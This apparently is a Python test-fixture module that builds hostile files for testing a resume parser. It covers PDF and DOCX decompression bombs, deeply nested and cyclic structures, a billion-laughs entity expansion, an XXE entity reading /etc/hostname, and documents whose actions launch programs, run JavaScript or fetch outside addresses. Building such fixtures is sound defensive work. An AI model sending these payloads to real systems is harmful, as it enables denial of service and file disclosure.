"""Files made to break a reader, as bytes; everything in them is made here."""

from __future__ import annotations

import io
import json
import zipfile
import zlib
from collections.abc import Callable, Sequence
from itertools import pairwise

from resume_files import RESUMES, as_docx

MEGABYTE = 1 << 20
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_NESTED = 100_000


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """An object that is a stream."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), extra, content)


def pdf_of_objects(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    """A PDF whose objects are these, numbered from 1; the first is the catalog."""
    found = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, start=1):
        places.append(len(found))
        found += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(found)
    found += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    found += b"".join(b"%010d 00000 n \n" % place for place in places)
    found += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(found)


def one_page(content: bytes, *more: bytes, page: bytes = b"", catalog: bytes = b"") -> bytes:
    """A PDF with one page; `content` is the object 4 that draws it, `more` are the objects from 6 on."""
    return pdf_of_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /X1 6 0 R >> >> %s >>" % page,
            content,
            _FONT,
            *more,
        ]
    )


def text_at(text: bytes, y: int = 700) -> bytes:
    """Drawing a line of text."""
    return b"BT /F1 10 Tf 50 %d Td (%s) Tj ET\n" % (y, text)


PYTHON = text_at(b"Skills: Python and SQL")


def zeros(megabytes: int, filler: bytes = b" ") -> bytes:
    """So many megabytes of one byte, packed to a thousandth."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = filler * MEGABYTE
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(megabytes):
        check = zlib.adler32(block, check)
    return b"\x78\x9c" + packed * megabytes + packer.flush() + check.to_bytes(4, "big")


def many_pages(count: int = 2000) -> bytes:
    """A resume of 2,000 pages."""
    resources = b"/Resources << /Font << /F1 4 0 R >> >>"
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R %s >>" % resources] * count
    kids = b" ".join(b"%d 0 R" % (5 + index) for index in range(count))
    lines = b"".join(text_at(b"Built a model in Python and PyTorch", 750 - 14 * row) for row in range(40))
    return pdf_of_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            stream(lines),
            _FONT,
            *pages,
        ]
    )


def missing_page() -> bytes:
    """A file whose one page is not in it."""
    return one_page(stream(b"9 9 90 90 re f")).replace(b"/Kids [3 0 R]", b"/Kids [9 0 R]")


def endless_page() -> bytes:
    """A page of two billion points, with a drawing and no text."""
    return one_page(stream(b"9 9 90 90 re f")).replace(b"0 0 595 842", b"0 0 2147483008 842")


def content_bomb() -> bytes:
    """A page whose drawing unpacks to 1 GB."""
    return one_page(stream(zeros(1024), b"/Filter /FlateDecode"))


def doubly_packed_bomb() -> bytes:
    """A page whose drawing is packed twice, a few kilobytes in all."""
    return one_page(stream(zlib.compress(zeros(1024), 9), b"/Filter [/FlateDecode /FlateDecode]"))


def object_stream_bomb() -> bytes:
    """A file whose catalog stands in an object stream that unpacks to 1 GB."""
    found = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, content in (
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"),
        (4, stream(PYTHON)),
        (5, stream(zeros(1024), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")),
    ):
        places[number] = len(found)
        found += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(found)
    rows = [(0, 0, 0), (2, 5, 0), *((1, places[number], 0) for number in (2, 3, 4, 5)), (1, start, 0)]
    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([index]) for kind, place, index in rows)
    found += b"6 0 obj\n%s\nendobj\n" % stream(table, b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R")
    found += b"startxref\n%d\n%%%%EOF\n" % start
    return bytes(found)


def many_glyphs(count: int = 40_000) -> bytes:
    """A page of 40,000 letters that all can be seen, two metres wide."""
    row = (b"Python and SQL with Docker on Linux for PyTorch models that read data " * 15)[:1000]
    lines = b"".join(b"0 -12 Td (%s) Tj " % row for _ in range(count // len(row)))
    content = stream(b"BT /F1 8 Tf 50 1990 Td " + lines + b"ET")
    return one_page(content).replace(b"/MediaBox [0 0 595 842]", b"/MediaBox [0 0 5000 2000]")


def many_shapes(count: int = 300_000) -> bytes:
    """A page of 300,000 drawn boxes and a line of text."""
    return one_page(stream(PYTHON + b"0 0 5 5 re f\n" * count))


def huge_picture() -> bytes:
    """A page with a picture of 30,000 x 30,000 points under its text."""
    picture = stream(
        zeros(859),
        b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent 8"
        b" /Filter /FlateDecode",
    )
    return one_page(stream(b"q 500 0 0 500 0 0 cm /X1 Do Q\n" + PYTHON), picture)


def _form(content: bytes, draws: int) -> bytes:
    resources = b"/Resources << /XObject << /X1 %d 0 R >> /Font << /F1 5 0 R >> >>" % draws
    return stream(content, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + resources)


def form_that_draws_itself() -> bytes:
    """A page that draws a form that draws itself."""
    return one_page(stream(PYTHON + b"/X1 Do\n"), _form(b"/X1 Do /X1 Do\n", 6))


def forms_that_multiply() -> bytes:
    """A page that draws a form a hundred times, and so on twelve deep."""
    forms = [_form(b"/X1 Do\n" * 100, 7 + index) for index in range(12)]
    return one_page(stream(PYTHON + b"/X1 Do\n"), *forms, _form(PYTHON, 6))


def nested_arrays() -> bytes:
    """A page with 100,000 arrays in each other."""
    return one_page(stream(PYTHON), page=b"/Deep " + b"[" * _NESTED + b"]" * _NESTED)


def nested_dictionaries() -> bytes:
    """A catalog with 100,000 dictionaries in each other."""
    return one_page(stream(PYTHON), catalog=b"/Deep " + b"<< /A " * _NESTED + b"1 " + b">> " * _NESTED)


def nested_drawing() -> bytes:
    """A page whose drawing opens 100,000 arrays, states and texts."""
    return one_page(stream(b"[" * _NESTED + b"q " * _NESTED + PYTHON))


def cyclic_pages() -> bytes:
    """A page tree that holds itself."""
    return pdf_of_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000 /Parent 3 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R] /Count 1000000 /Parent 2 0 R >>",
        ]
    )


def cyclic_objects() -> bytes:
    """A page whose drawing, size and fonts refer to themselves."""
    return pdf_of_objects(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox 4 0 R /Contents 5 0 R /Resources 6 0 R >>",
            b"4 0 R",
            b"[5 0 R 5 0 R]",
            b"<< /Font 6 0 R /F1 6 0 R >>",
        ]
    )


def cross_reference_loop() -> bytes:
    """Cross-reference tables that name each other as the one before."""
    whole = one_page(stream(PYTHON))
    start = int(whole.rsplit(b"startxref\n", 1)[1].split()[0])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def endless_stream() -> bytes:
    """A drawing that says it is 2 GB long."""
    return one_page(b"<< /Length 2147483647 >>\nstream\n" + PYTHON + b"\nendstream")


def negative_sizes() -> bytes:
    """A page with numbers that no page has."""
    numbers = b"/MediaBox [-1e30 99999999999999999999 NaN -2147483649] /Rotate 91 /UserUnit -5"
    return one_page(stream(b"BT /F1 1e38 Tf 1e38 1e38 Td (Python) Tj ET " + PYTHON), page=numbers)


# ---------------------------------------------------------------------------------------------------------- other files


def _repacked(change: Callable[[bytes], bytes]) -> bytes:
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(as_docx(RESUMES["strong"]))) as old,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for part in old.infolist():
            content = old.read(part)
            new.writestr(part.filename, change(content) if part.filename == "word/document.xml" else content)
    return file.getvalue()


def docx_bomb() -> bytes:
    """A Word document whose text unpacks to 220 MB."""
    return _repacked(lambda content: content.replace(b"</w:body>", b" " * (220 * MEGABYTE) + b"</w:body>"))


def docx_bomb_that_lies() -> bytes:
    """The same, and its directory says that it is small."""
    content = docx_bomb()
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        size = package.getinfo("word/document.xml").file_size
    return content.replace(size.to_bytes(4, "little"), (5000).to_bytes(4, "little"))


def docx_of_another_zip() -> bytes:
    """A Word document that is packed, it says, by rules of the future."""
    return as_docx(RESUMES["strong"]).replace(b"PK\x01\x02\x14\x03\x14", b"PK\x01\x02\x14\x03\xf4")


def docx_with_entities() -> bytes:
    """A Word document whose one letter stands for a billion."""
    names = "abcdefghij"
    entities = '<!ENTITY a "laughs">' + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in pairwise(names)
    )
    kind = f"<!DOCTYPE w:document [{entities}]>".encode()

    def change(content: bytes) -> bytes:
        start, _, rest = content.partition(b"?>")
        return start + b"?>" + kind + rest.replace(b"Maya Lindqvist", b"&j;")

    return _repacked(change)


def docx_that_reads_a_file() -> bytes:
    """A Word document with an entity that names a file of this machine."""

    def change(content: bytes) -> bytes:
        start, _, rest = content.partition(b"?>")
        kind = b'<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/hostname">]>'
        return start + b"?>" + kind + rest.replace(b"Maya Lindqvist", b"&secret;")

    return _repacked(change)


def docx_of_many_parts(count: int) -> bytes:
    """A Word document with so many empty files in it."""
    file = io.BytesIO(as_docx(RESUMES["strong"]))
    with zipfile.ZipFile(file, "a", zipfile.ZIP_STORED) as package:
        for number in range(count):
            package.writestr(zipfile.ZipInfo(f"x{number}"), b"")
    return file.getvalue()


def docx_nested() -> bytes:
    """A Word document with 100,000 content controls in each other."""
    inside = b"<w:sdt><w:sdtContent>" * _NESTED + b"</w:sdtContent></w:sdt>" * _NESTED
    return _repacked(lambda content: content.replace(b"<w:body>", b"<w:body>" + inside))


def html_nested() -> bytes:
    """A web page with 300,000 boxes in each other."""
    return b"<!doctype html><html><body>" + b"<div>" * 300_000 + b"Python" + b"</div>" * 300_000


def html_of_tables() -> bytes:
    """A web page with 2,000 tables in each other, never closed."""
    return b"<!doctype html><html><body>" + b"<table><tr><td>Python" * 2000


def json_nested() -> bytes:
    """JSON with a million lists in each other."""
    return b'{"basics": ' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}"


def json_of_other_types() -> bytes:
    """JSON Resume in which nothing is what the schema says."""
    wrong: list[object] = [
        None,
        1,
        "a",
        [[]],
        {"name": {"x": 1}, "highlights": 5, "keywords": {"a": 1}, "startDate": [2020]},
    ]
    parts = ("work", "volunteer", "projects", "education", "skills", "certificates", "awards", "languages", "interests")
    return json.dumps({"basics": ["x"], **dict.fromkeys(parts, wrong)}).encode()


def long_text() -> bytes:
    """20 MB of text."""
    return b"Python and SQL, Docker and Linux.\n" * 600_000


def long_line() -> bytes:
    """300,000 characters without a break, and no word among them."""
    return b"(" * 100_000 + b"1-" * 50_000 + b"a." * 50_000


def pdf_that_reaches_out(address: str, file: str) -> bytes:
    """A PDF that asks to run a script and a program, to open addresses and files, and to send itself away."""
    url, path = address.encode(), file.encode()
    actions = (
        b"<< /S /JavaScript /JS (app.launchURL\\('%s'\\); this.submitForm\\('%s'\\)) >>" % (url, url),
        b"<< /S /Launch /F (%s) /Unix << /F (/bin/touch) /P (%s) >> >>" % (path, path),
        b"<< /S /URI /URI (%s) >>" % url,
        b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> >>" % url,
        b"<< /S /GoToR /F (%s) /D [0 /Fit] >>" % path,
        b"<< /S /ImportData /F (%s) >>" % path,
    )
    links = b" ".join(
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s /AA << /PO %s /PV %s >> >>" % ((action,) * 3)
        for action in actions
    )
    outside = b"<< /Length 0 /F << /FS /URL /F (%s) >> /Type /XObject /Subtype /Image /Width 9 /Height 9 >>" % url
    return one_page(
        stream(PYTHON + b"/X1 Do\n"),
        outside + b"\nstream\n\nendstream",
        stream(b"MZ", b"/Type /EmbeddedFile"),
        page=b"/Annots [%s] /AA << /O %s /C %s >>" % (links, actions[0], actions[1]),
        catalog=b"/OpenAction %s /AA << /WC %s >> /Names << /JavaScript << /Names [(a) %s] >> /EmbeddedFiles << /Names "
        b"[(run.exe) << /Type /Filespec /F (run.exe) /EF << /F 7 0 R >> >>] >> >>"
        % (actions[1], actions[0], actions[0]),
    )


def docx_that_reaches_out(address: str) -> bytes:
    """A Word document with a template and a picture at an address."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(
        f'<Relationship Id="out{name}" Type="{kind}/{name}" Target="{address}" TargetMode="External"/>'
        for name in ("attachedTemplate", "image", "hyperlink", "subDocument", "frame")
    ).encode()
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(as_docx(RESUMES["strong"]))) as old, zipfile.ZipFile(file, "w") as new:
        for part in old.infolist():
            content = old.read(part)
            new.writestr(part.filename, content.replace(b"</Relationships>", links + b"</Relationships>"))
    return file.getvalue()


def html_that_reaches_out(address: str, file: str) -> bytes:
    """A web page with everything that a browser would fetch."""
    page = f"""<!DOCTYPE html SYSTEM "{address}"><html><head><base href="{address}"><link href="{address}">
    <meta http-equiv=refresh content="0; url={address}"><script src="{address}"></script></head><body>
    <h2>Skills</h2><p>Python</p><img src="{address}"><iframe src="file://{file}"></iframe><object data="{address}">
    </object><?xml-stylesheet href="{address}"?><p style="background: url({address})">SQL</p></body></html>"""
    return page.encode()


PDF_FILES = (
    many_pages, missing_page, endless_page, content_bomb, doubly_packed_bomb, object_stream_bomb, many_glyphs,
    many_shapes, huge_picture,
    form_that_draws_itself, forms_that_multiply, nested_arrays, nested_dictionaries, nested_drawing, cyclic_pages,
    cyclic_objects, cross_reference_loop, endless_stream, negative_sizes,
)  # fmt: skip
OTHER_FILES = (
    docx_bomb, docx_bomb_that_lies, docx_of_another_zip, docx_with_entities, docx_that_reads_a_file, docx_nested,
    html_nested, html_of_tables, json_nested, json_of_other_types, long_text, long_line,
)  # fmt: skip
